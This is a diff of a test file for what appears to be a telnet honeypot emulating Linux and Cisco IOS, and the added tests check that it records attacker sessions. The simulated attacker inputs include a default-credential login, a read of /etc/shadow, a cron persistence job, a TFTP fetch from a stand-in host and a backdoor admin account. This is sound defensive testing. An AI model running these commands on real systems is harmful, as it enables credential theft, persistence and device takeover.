@@ -1,7 +1,8 @@
 import {afterEach, describe, expect, it} from 'vitest'
-
 import type {OptionValues} from '../../../../src/decoy/definition.ts'
 import type {PersonaFacts} from '../../../../src/decoy/persona.ts'
+import {recordingOf} from '../../../../src/events/replay/recording.ts'
+import {lastKept, wayOf} from '../../../support/kept.ts'
 import {eventually, type Served, serve} from '../../../support/serve.ts'
 import {CAMERA, CISCO, OPTIONS, REFUSES, REFUSES_ECHO, Talk, telnetService} from './support.ts'
 
@@ -58,6 +59,33 @@ describe('Linux', () => {
     const [command] = server.named('command')
     expect(command?.data).toMatchObject({user: 'root', kind: 'shell'})
     expect(server.named('file.read')[0]?.data?.path).toBe('/etc/shadow')
+    const recording = recordingOf(server.events)
+    expect(wayOf(recording?.frames ?? [], 'i')).toMatch(/^root\rxc3511\rid; .*\rexit\r$/)
+    expect(wayOf(recording?.frames ?? [], 'o')).toMatch(
+      /^Debian GNU\/Linux 12\r\n.*login: root\r\nPassword: \r\n.*logout\r\n$/s,
+    )
+  })
+
+  it('records a terminal in the size of the client, and what is written in it', {timeout: SLOW}, async () => {
+    const {talk: client, served: server} = await linux()
+    client.send(Buffer.from('fffa1f0084002bfff0', 'hex'))
+    await client.signIn('root', 'xc3511', UNIX)
+    await client.until('root@edge-3:~# ')
+    client.send('echo "* * * * * root id" > /etc/cron.d/x\r\0')
+    await client.until('root@edge-3:~# ')
+    client.socket.destroy()
+    await eventually(() => server.named('session.end').length > 0)
+    expect(server.events.at(-1)?.event).toBe('session.end')
+    expect(lastKept(server.events).content.toString()).toBe('* * * * * root id\n')
+    expect(recordingOf(server.events)).toMatchObject({columns: 132, rows: 43, truncated: false})
+  })
+
+  it('records nothing of who looks at the prompt and leaves', {timeout: SLOW}, async () => {
+    const {talk: client, served: server} = await linux()
+    await client.until('login: ')
+    client.socket.destroy()
+    await eventually(() => server.named('session.end').length > 0)
+    expect(server.named('session.transcript')).toEqual([])
   })
 
   it('shows a banner instead of its name where one is set', {timeout: SLOW}, async () => {
@@ -146,6 +174,11 @@ describe('Cisco IOS', () => {
     await run('copy tftp://198.51.100.7/x flash:', 'ber-sw01#')
     client.send('exit\r\0')
     await eventually(() => client.closed)
+    const recording = recordingOf(server.events)
+    expect(wayOf(recording?.frames ?? [], 'o')).toContain(
+      '\r\nber-sw01#copy tftp://198.51.100.7/x flash:\r\n%Error opening ',
+    )
+    expect(wayOf(recording?.frames ?? [], 'i')).toContain('enable\rwrong\rCore-2024\r')
     const lines = JSON.stringify(server.named('command').map(({data}) => data?.line))
     expect(lines).toContain('username evil privilege 15 secret x')
     expect(server.named('auth.attempt').map(({credential}) => [credential?.method, credential?.outcome])).toEqual([
